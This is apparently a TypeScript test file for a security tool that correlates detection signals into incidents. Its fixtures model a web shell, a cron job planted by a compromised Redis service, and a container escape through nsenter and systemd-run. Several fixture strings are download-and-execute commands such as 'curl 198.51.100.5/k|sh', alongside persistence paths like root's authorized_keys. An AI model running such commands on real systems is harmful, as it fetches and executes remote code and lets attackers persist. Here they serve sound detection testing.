/**
 * Holds what is one incident and what is not, over made-up facts.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { sampleStartUs } from "../../../testing/sample-facts.ts";
import {
  dataContainer,
  incidentWorkload,
  sampleInput,
  sampleProcess,
  sampleSignal,
  sampleStep,
  secondUs,
  webContainer,
  webShellFacts,
} from "../../../testing/sample-incident.ts";
import type { SignalFact } from "../../observe/detect/detect-fact.ts";
import type { IncidentInput } from "./incident-input.ts";
import { judgeIncidents } from "./judge-incidents.ts";
import { addUpScore, scoreParts } from "./score-incident.ts";

function lone(name: string, second: number, given: Partial<SignalFact> = {}): SignalFact {
  return sampleSignal(
    { process: name, entry: name, second },
    { host: "", entryKind: "unknown", container: `${name}-container`, ...given },
  );
}

const judge = (signals: readonly SignalFact[], given = {}) =>
  judgeIncidents(sampleInput({ signals, ...given }));

test("the requests of one web shell are one incident, with all its sessions", () => {
  const incidents = judgeIncidents(sampleInput(webShellFacts()));
  assert.equal(incidents.length, 1);
  assert.deepEqual(incidents[0]?.entries, ["sh-1", "sh-2"]);
  assert.equal(incidents[0]?.severity, "high");
  assert.match(incidents[0]?.story.join(" ") ?? "", /php-fpm.*started both within half an hour/);
});

test("requests that come hours apart are two incidents, related by their container", () => {
  const host = { host: "web-server", entryKind: "service", container: webContainer } as const;
  const incidents = judge([lone("a", 0, host), lone("b", 7200, host)]);
  assert.equal(incidents.length, 2);
  assert.match(incidents[0]?.related[0]?.why ?? "", /container/);
});

test("workers of one master are one service", () => {
  const worker = (process: string) =>
    sampleProcess(
      { process, entry: "", second: -9 },
      { parent: "master", binary: "/usr/sbin/php-fpm" },
    );
  const master = { ...worker("master"), parent: "" };
  const own = (host: string): Partial<SignalFact> => ({ host, entryKind: "service" });
  const incidents = judge([lone("a", 0, own("w1")), lone("b", 60, own("w2"))], {
    processes: [worker("w1"), worker("w2"), master],
  });
  assert.equal(incidents.length, 1);
});

test("a session that runs what another one left is the same incident", () => {
  const drop = sampleStep({ process: "a", entry: "a", second: 1 }, { what: "write" });
  const run = sampleProcess({ process: "b", entry: "b", second: 500 }, { binary: "/tmp/x" });
  const place = { container: webContainer };
  const facts = { steps: [{ ...drop, subject: "/tmp/x" }], processes: [run] };
  const signals = [lone("a", 0, place), lone("b", 500, place)];
  assert.equal(judge(signals, facts).length, 1);
  assert.equal(judge(signals, { ...facts, steps: [{ ...drop, subject: "/tmp/y" }] }).length, 2);
});

test("what a privileged container wrote below a mount of the host is what the host runs", () => {
  const drop = sampleStep(
    { process: "a", entry: "a", second: 1 },
    { what: "write", subject: "/host/opt/job.sh" },
  );
  const run = sampleProcess(
    { process: "b", entry: "b", second: 90 },
    { container: "host:node-1", arguments: "/opt/job.sh" },
  );
  const signals = [
    lone("a", 0, { container: webContainer }),
    lone("b", 90, { container: "host:node-1", workload: undefined }),
  ];
  assert.equal(judge(signals, { steps: [drop], processes: [run] }).length, 1);
});

test("a client and the server that acted on its behalf within a minute are one incident", () => {
  const connect = sampleStep({ process: "a", entry: "a", second: 5 }, { subject: "10.0.0.5:5432" });
  const listenersAt = (address: string, port: number) =>
    address === "10.0.0.5" && port === 5432 ? [dataContainer] : [];
  const client = lone("a", 5, { entryKind: "operator" });
  const server = (second: number, entryKind: SignalFact["entryKind"] = "service") =>
    lone("b", second, { container: dataContainer, entryKind, host: "postgres" });
  const given = { steps: [connect], listenersAt };
  assert.equal(judge([client, server(30)], given).length, 1);
  assert.equal(judge([client, server(300)], given).length, 2, "too late to be the answer");
  assert.equal(judge([client, server(2)], given).length, 2, "before the connection");
  assert.equal(judge([client, server(30, "operator")], given).length, 2, "not the server's doing");
});

test("a signal that names a process of another session joins both", () => {
  assert.equal(judge([lone("a", 0, { others: ["b"] }), lone("b", 900)]).length, 1);
});

test("a session started by what another session left running is the same incident", () => {
  const daemon = sampleProcess({ process: "daemon", entry: "a", second: 1 });
  const signals = [lone("a", 0), lone("b", 4000, { host: "daemon" })];
  assert.equal(judge(signals, { processes: [daemon] }).length, 1);
});

test("sessions of one container that follow at once are one; jobs of one host are not", () => {
  const inside = (second: number) => ({ container: webContainer, firstSeenUs: at(second) });
  assert.equal(judge([lone("a", 0, inside(0)), lone("b", 4, inside(4))]).length, 1);
  assert.equal(judge([lone("a", 0, inside(0)), lone("b", 60, inside(60))]).length, 2);
  const host = { container: "host:node-1", workload: undefined };
  assert.equal(judge([lone("a", 0, host), lone("b", 1, host)]).length, 2);
});

function at(second: number): number {
  return sampleStartUs + second * secondUs;
}

test("a shared address relates incidents and does not join them", () => {
  const shared = { indicators: [{ type: "ip", value: "203.0.113.9" }] } as const;
  const incidents = judge([lone("a", 0, shared), lone("b", 10, shared)]);
  assert.equal(incidents.length, 2);
  assert.match(incidents[0]?.related[0]?.why ?? "", /203\.0\.113\.9/);
});

test("weak signals and novelty alone are no incident, unless they are many and diverse", () => {
  const weak = (at: number): SignalFact => {
    const families = ["discovery", "drift", "interactive-exec", "tampering"] as const;
    return lone("a", at, {
      level: "low",
      score: 8,
      family: families[at] ?? "discovery",
      rule: `r${at}`,
      tactics: [`tactic-${at}`],
    });
  };
  assert.equal(judge([weak(0)]).length, 0);
  assert.equal(judge([weak(0), weak(1), weak(2)]).length, 0, "24 is less than medium");
  const many = judge([0, 1, 2, 3].map(weak));
  assert.deepEqual(
    many.map(({ severity, confidence }) => [severity, confidence]),
    [["medium", "low"]],
  );
  assert.equal(judge([lone("n", 0, { family: "novelty", level: "high" })]).length, 0);
});

test("weak signals of another session neither join nor make an incident", () => {
  const weak = lone("b", 1, { level: "low", container: webContainer });
  const incidents = judge([lone("a", 0, { container: webContainer }), weak]);
  assert.deepEqual(
    incidents.map(({ entries }) => entries),
    [["a"]],
  );
});

test("33,000 hits of one noisy rule are a handful of incidents, wherever they fall", () => {
  const place = fc.record({
    workload: fc.integer({ min: 1, max: 400 }),
    nodes: fc.integer({ min: 1, max: 40 }),
    hours: fc.integer({ min: 1, max: 24 }),
    level: fc.constantFrom("medium", "high"),
  });
  fc.assert(
    fc.property(place, ({ workload, nodes, hours, level }) => {
      const signals = Array.from({ length: 33_000 }, (_, at) =>
        lone(`p${at}`, (at * 7919) % (hours * 3600), {
          level,
          container: `c${at % (workload * 3)}`,
          node: `node-${at % nodes}`,
          workload: incidentWorkload(`w${at % workload}`),
        }),
      );
      const incidents = judge(signals);
      assert.ok(incidents.length <= 5, `${incidents.length} incidents`);
      assert.equal(
        incidents.some(({ severity }) => severity === "critical"),
        false,
        "repeats make nothing graver",
      );
    }),
    { numRuns: 2 },
  );
});

test("a flood says that it is one, and how wide", () => {
  const signals = Array.from({ length: 50 }, (_, index) =>
    lone(`p${index}`, index * 60, { container: `c${index}`, workload: incidentWorkload("api") }),
  );
  const [incident] = judge(signals);
  assert.match(incident?.headline ?? "", /: 50 times in shop\/api/);
  assert.match(incident?.story.join(" ") ?? "", /50 sessions of 1 workloads/);
  assert.equal(incident?.confidence, "low");
  assert.ok((incident?.timeline.length ?? 0) <= 200);
});

test("a few sessions with the same rule stay incidents of their own", () => {
  const signals = ["a", "b", "c", "d", "e"].map((name, index) =>
    lone(name, index * 60, { workload: incidentWorkload(name) }),
  );
  assert.equal(judge(signals).length, 5);
});

test("a job that runs the same command again and again is one incident", () => {
  const names = ["a", "b", "c"];
  const job = { container: "host:node-1", workload: undefined, entryKind: "scheduled" } as const;
  const signals = names.map((name, index) => lone(name, index * 3600, job));
  const run = (text: string) =>
    names.map((name, index) =>
      sampleProcess(
        { process: name, entry: name, second: 0 },
        { arguments: text + (text && index) },
      ),
    );
  assert.equal(judge(signals, { processes: run("") }).length, 1);
  assert.equal(judge(signals, { processes: run("job-") }).length, 3);
});

test("what runs all the time ties nothing together but what came after a signal below it", () => {
  const standing = { entryKind: "startup", container: "host:node-1", workload: undefined } as const;
  const signals = [lone("init", 100, standing), lone("b", 50), lone("c", 200)];
  const child = (process: string, parent: string) =>
    sampleProcess({ process, entry: "init", second: 1 }, { parent });
  const hosts = signals.map((signal) =>
    signal.entry === "init" ? { ...signal, process: "bad" } : { ...signal, host: "cron" },
  );
  const processes = [child("init", ""), child("cron", "init"), child("bad", "init")];
  assert.equal(judge(hosts, { processes }).length, 3);
  const below = [child("init", ""), child("cron", "bad"), child("bad", "init")];
  const joined = judge(hosts, { processes: below });
  assert.deepEqual(joined.map(({ entries }) => entries.toSorted()).toSorted(), [
    ["b"],
    ["c", "init"],
  ]);
});

type Facts = Pick<IncidentInput, "signals" | "processes" | "steps">;

const onHost = { container: "host:node-1", workload: undefined, uid: 0 } as const;

/** A service writes a job for cron, which then runs it, twice; beside it, another job of cron. */
function plantedJobFacts(): Facts {
  const cron = { host: "cron", entryKind: "scheduled", ...onHost } as const;
  const job = (name: string, second: number, line: string) =>
    sampleProcess(
      { process: name, entry: name, second },
      { parent: "cron", arguments: line, ...onHost },
    );
  const write = { what: "write", subject: "/var/spool/cron/root", ...onHost } as const;
  return {
    signals: [
      lone("redis", 10, { ...onHost, family: "persistence", tactics: ["persistence"] }),
      lone("old", 0, { ...cron, rule: "noisy" }),
      lone("old-2", 3600, { ...cron, rule: "noisy" }),
      lone("job", 60, { ...cron, family: "download-execute", tactics: ["execution"] }),
      lone("job-2", 120, { ...cron, family: "download-execute", tactics: ["execution"] }),
    ],
    processes: [
      sampleProcess({ process: "cron", entry: "", second: -99 }, { parent: "", ...onHost }),
      ...["old", "old-2"].map((name, at) => job(name, at * 3600, "-c backup")),
      ...["job", "job-2"].map((name, at) => job(name, 60 + at * 60, "-c 'curl x | sh'")),
    ],
    steps: [sampleStep({ process: "redis", entry: "redis", second: 10 }, write)],
  };
}

/** A pod enters the machine and has its service manager run something, beside an old unit. */
function enteredMachineFacts(): Facts {
  const unit = { host: "systemd", entryKind: "startup", ...onHost } as const;
  const line = '-c "curl 198.51.100.5/k|sh"';
  const place = (process: string, second: number) => ({ process, entry: process, second });
  const tool = { binary: "/usr/bin/nsenter", arguments: `-t 1 -- systemd-run sh ${line}` };
  const below = { parent: "systemd", ...onHost };
  return {
    signals: [
      lone("pod", 5, { container: webContainer, family: "escape", level: "medium" }),
      lone("unit", 15, { ...unit, family: "download-execute" }),
      lone("other", 16, unit),
    ],
    processes: [
      sampleProcess(place("pod", 5), tool),
      sampleProcess(place("unit", 15), { arguments: line, ...below }),
      sampleProcess(place("other", 16), { arguments: "-c backup", ...below }),
    ],
    steps: [],
  };
}

const stories = { webShellFacts, plantedJobFacts, enteredMachineFacts };

test("a job that a service wrote is the service's incident, with each of its runs", () => {
  const incidents = judgeIncidents(sampleInput(plantedJobFacts()));
  assert.deepEqual(
    incidents.map(({ entries }) => entries),
    [["redis", "job", "job-2"], ["old-2"], ["old"]],
    "the job that ran before is none of it",
  );
  assert.match(
    incidents[0]?.story.join(" ") ?? "",
    /Its 3 sessions are one incident: it left “\/var\/spool\/cron\/root” .* the same job ran again/,
  );
});

test("what a pod has the machine's service manager do is the pod's incident", () => {
  const incidents = judgeIncidents(sampleInput(enteredMachineFacts()));
  assert.deepEqual(incidents.map(({ entries }) => entries).toSorted(), [
    ["other"],
    ["pod", "unit"],
  ]);
  const joined = incidents.find(({ entries }) => entries.length === 2);
  assert.match(joined?.story.join(" ") ?? "", /handed over the command "curl 198.51.100.5\/k|sh"/);
});

test("sessions that are joined count no signal twice", () => {
  const facts = plantedJobFacts();
  const [joined] = judgeIncidents(sampleInput(facts));
  const own = facts.signals.filter(({ entry }) => joined?.entries.includes(entry));
  const parts = scoreParts(own, []);
  assert.deepEqual(joined?.scoreParts, parts);
  assert.equal(joined?.score, addUpScore(parts));
  assert.deepEqual(
    parts.map(({ label }) => label),
    ["signals of download-execute, and again", "signals of persistence", "2 tactics"],
    "each family once, whichever session it came from",
  );
  assert.equal(joined?.signals.length, own.length);
});

test("facts in any order give the same incidents, with the same ids", () => {
  for (const facts of Object.values(stories)) {
    const { signals, processes, steps } = facts();
    const expected = JSON.stringify(judgeIncidents(sampleInput({ signals, processes, steps })));
    const shuffled = fc.tuple(
      fc.shuffledSubarray([...signals], { minLength: signals.length }),
      fc.shuffledSubarray([...processes], { minLength: processes.length }),
      fc.shuffledSubarray([...steps], { minLength: steps.length }),
    );
    fc.assert(
      fc.property(shuffled, ([some, others, more]) => {
        const input = sampleInput({ signals: some, processes: others, steps: more });
        assert.equal(JSON.stringify(judgeIncidents(input)), expected);
      }),
      { numRuns: 30 },
    );
  }
});

test("jobs, units and logins of a busy host in any order fall into the same incidents", () => {
  const kinds = fc.constantFrom("scheduled", "startup", "login", "unknown", "service");
  const paths = fc.constantFrom(
    "/var/spool/cron/root",
    "/etc/cron.d/x",
    "/etc/systemd/system/net.service",
    "/root/.ssh/authorized_keys",
    "/etc/profile.d/x.sh",
    "/tmp/x",
  );
  const lines = fc.constantFrom(
    "-c backup",
    "-c 'curl 198.51.100.5/k | sh'",
    "systemd-run sh -c 'curl 198.51.100.5/k | sh'",
    "/tmp/x",
  );
  const one = fc.record({
    kind: kinds,
    path: paths,
    line: lines,
    second: fc.nat(9000),
    host: fc.constantFrom("cron", "systemd", "sshd", ""),
    inPod: fc.boolean(),
  });
  const hosts = ["cron", "systemd", "sshd"].map((name) =>
    sampleProcess(
      { process: name, entry: "", second: -99 },
      { parent: "", binary: `/usr/sbin/${name}`, ...onHost },
    ),
  );
  fc.assert(
    fc.property(fc.array(one, { minLength: 2, maxLength: 9 }), fc.nat(), (made, seed) => {
      const facts = made.map(({ kind, path, line, second, host, inPod }, at) => {
        const place = { process: `p${at}`, entry: `p${at}`, second };
        const where = inPod ? { container: `pod-${at % 2}` } : onHost;
        const family = inPod ? ("escape" as const) : ("persistence" as const);
        return {
          signal: lone(`p${at}`, second, { ...where, entryKind: kind, host, family }),
          process: sampleProcess(place, { ...where, parent: host, arguments: line }),
          step: sampleStep(place, { ...where, what: "write", subject: path }),
        };
      });
      const input = (some: typeof facts) =>
        sampleInput({
          signals: some.map(({ signal }) => signal),
          processes: [...some.map(({ process }) => process), ...hosts],
          steps: some.map(({ step }) => step),
        });
      const turned = facts.map((_, at) => facts[(at + seed) % facts.length] ?? facts[0]);
      const other = turned.flatMap((fact) => fact ?? []).reverse();
      assert.equal(
        JSON.stringify(judgeIncidents(input(other))),
        JSON.stringify(judgeIncidents(input(facts))),
      );
    }),
    { numRuns: 100 },
  );
});

test("incidents are ordered by severity, then score", () => {
  const incidents = judge([
    lone("a", 0, { level: "medium", score: 25 }),
    lone("b", 0, { level: "critical", score: 75 }),
    lone("c", 0, { level: "high", score: 60 }),
  ]);
  assert.deepEqual(
    incidents.map(({ severity }) => severity),
    ["critical", "high", "medium"],
  );
});

test("hostile facts (cycles, empty ids, times that are none) do no harm", () => {
  const loop = sampleProcess({ process: "x", entry: "x", second: 0 }, { parent: "x" });
  const signals = [
    lone("x", 0, { host: "x", entryKind: "service" }),
    lone("", 0, { entry: "", process: "", node: "", container: "" }),
    lone("y", -1, { firstSeenUs: Number.MAX_SAFE_INTEGER, lastSeenUs: -5, citations: [] }),
  ];
  assert.equal(judge(signals, { processes: [loop] }).length, 3);
});
